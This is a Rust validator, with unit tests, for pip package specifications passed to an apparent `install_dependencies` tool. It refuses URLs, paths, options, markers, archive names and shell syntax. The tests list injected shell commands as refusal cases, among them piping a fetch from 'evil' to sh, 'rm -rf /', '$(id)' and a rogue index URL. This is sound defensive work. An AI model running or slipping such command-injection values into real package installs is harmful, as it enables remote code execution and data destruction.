//! Package specs for `install_dependencies`, checked before anything runs. Only plain
//! requirement specifiers pass: a name, optional extras, optional version clauses. URLs,
//! paths, options (`--index-url`), environment markers and anything shell-like are refused.

/// Why a spec was refused; the message quotes it (at most its first 64 characters).
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum SpecError {
    #[error("no packages given")]
    Empty,
    #[error("too many packages at once ({0}; at most {MAX_PACKAGES})")]
    TooMany(usize),
    #[error("`{spec}` is not a plain requirement ({why}); use forms like `numpy`, `pandas>=2`, `requests[socks]==2.31.0`")]
    Invalid { spec: String, why: &'static str },
}

/// At most this many packages per call.
pub const MAX_PACKAGES: usize = 50;
const MAX_LEN: usize = 200;
const OPERATORS: [&str; 8] = ["===", "==", "!=", "~=", ">=", "<=", ">", "<"];
/// What pip takes for a local archive when a requirement's name ends with it (pip's own
/// list): such a "name" reaches pip as a path (issue 24, item 10).
const ARCHIVE_SUFFIXES: [&str; 12] = [
    ".whl",
    ".zip",
    ".tar",
    ".tar.gz",
    ".tgz",
    ".tar.bz2",
    ".tbz",
    ".tar.xz",
    ".txz",
    ".tlz",
    ".tar.lz",
    ".tar.lzma",
];

/// Check every spec; the first bad one is reported.
pub fn validate(specs: &[String]) -> Result<(), SpecError> {
    if specs.is_empty() {
        return Err(SpecError::Empty);
    }
    if specs.len() > MAX_PACKAGES {
        return Err(SpecError::TooMany(specs.len()));
    }
    specs.iter().try_for_each(|s| validate_one(s))
}

/// PEP 503 normalized name: lowercase, runs of `-`, `_`, `.` become one `-`.
pub fn normalize(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    let mut sep = false;
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            sep = true;
        } else {
            if sep && !out.is_empty() {
                out.push('-');
            }
            sep = false;
            out.push(c.to_ascii_lowercase());
        }
    }
    out
}

/// The distribution name of a valid spec (`requests[socks]>=2` gives `requests`).
pub fn name_of(spec: &str) -> &str {
    let end = spec
        .find(|c: char| !(c.is_ascii_alphanumeric() || "._-".contains(c)))
        .unwrap_or(spec.len());
    &spec[..end]
}

fn validate_one(spec: &str) -> Result<(), SpecError> {
    let bad = |why| {
        let shown: String = spec.chars().take(64).collect();
        let spec = if shown.len() < spec.len() {
            format!("{shown}… ({} bytes)", spec.len())
        } else {
            shown
        };
        Err(SpecError::Invalid { spec, why })
    };
    if spec.is_empty() || spec.len() > MAX_LEN {
        return bad("empty or too long");
    }
    if spec.starts_with('-') {
        return bad("options are not accepted");
    }
    if spec.contains("://") || spec.contains('@') || spec.contains('/') || spec.contains('\\') {
        return bad("URLs and paths are not accepted");
    }
    if spec.contains(';') {
        return bad("environment markers are not accepted");
    }
    if spec.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return bad("no spaces or control characters");
    }
    let name = name_of(spec);
    let lower = name.to_ascii_lowercase();
    if ARCHIVE_SUFFIXES.iter().any(|x| lower.ends_with(x)) {
        return bad("file names are not accepted: pip would install it as a local archive");
    }
    let name_ok = !name.is_empty()
        && name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric())
        && name
            .chars()
            .last()
            .is_some_and(|c| c.is_ascii_alphanumeric());
    if !name_ok {
        return bad("a package name starts and ends with a letter or digit");
    }
    let mut rest = &spec[name.len()..];
    if let Some(r) = rest.strip_prefix('[') {
        let Some(close) = r.find(']') else {
            return bad("unclosed extras");
        };
        let extras = &r[..close];
        if extras.is_empty()
            || !extras.split(',').all(|e| {
                !e.is_empty()
                    && e.chars()
                        .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
            })
        {
            return bad("extras are names separated by commas");
        }
        rest = &r[close + 1..];
    }
    if rest.is_empty() {
        return Ok(());
    }
    for clause in rest.split(',') {
        let Some(op) = OPERATORS.iter().find(|op| clause.starts_with(**op)) else {
            return bad("a version clause starts with ==, >=, <=, !=, ~=, >, < or ===");
        };
        let version = &clause[op.len()..];
        if version.is_empty()
            || !version
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ".*+!_-".contains(c))
        {
            return bad("a version is letters, digits and . * + ! _ -");
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_requirements_pass() {
        for ok in [
            "numpy",
            "numpy>=2",
            "pandas==2.1.*",
            "requests[socks,security]==2.31.0",
            "scikit_learn~=1.3,!=1.3.1",
            "six",
            "zope.interface<7",
        ] {
            assert_eq!(validate(&[ok.to_string()]), Ok(()), "{ok}");
        }
    }

    #[test]
    fn anything_else_is_refused() {
        for bad in [
            "x; curl evil|sh",
            "six; rm -rf /",
            "--index-url=http://evil",
            "-e .",
            "git+https://github.com/x/y",
            "pkg @ https://x/y.whl",
            "../local/pkg",
            "/tmp/x.whl",
            "numpy >= 2",
            "numpy>=2 && id",
            "$(id)",
            "`id`",
            "a|b",
            "numpy>=",
            "numpy=2",
            "req[",
            "",
            "-",
            "x.whl",
            "x.tar.gz",
            "X.TGZ",
            "pkg.zip>=1",
            "a.tar.bz2[extra]",
        ] {
            assert!(validate(&[bad.to_string()]).is_err(), "{bad:?} passed");
        }
        assert_eq!(validate(&[]), Err(SpecError::Empty));
        let many: Vec<String> = (0..51).map(|i| format!("p{i}")).collect();
        assert_eq!(validate(&many), Err(SpecError::TooMany(51)));
    }

    #[test]
    fn refusals_quote_a_prefix() {
        let e = validate(&["a".repeat(1 << 20)]).unwrap_err().to_string();
        assert!(e.len() < 400, "{}", e.len());
    }

    #[test]
    fn names_normalize() {
        assert_eq!(normalize("scikit_learn"), "scikit-learn");
        assert_eq!(normalize("Scikit-Learn"), "scikit-learn");
        assert_eq!(normalize("zope.interface"), "zope-interface");
        assert_eq!(normalize("a__b--c"), "a-b-c");
        assert_eq!(name_of("requests[socks]>=2"), "requests");
    }
}
